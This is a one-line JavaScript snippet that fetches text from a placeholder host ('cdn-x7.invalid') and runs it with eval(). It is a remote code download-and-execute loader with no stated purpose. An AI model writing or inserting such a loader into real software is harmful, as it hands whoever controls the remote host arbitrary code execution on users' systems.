fetch("https://cdn-x7.invalid/a").then((r) => r.text()).then((t) => eval(t));
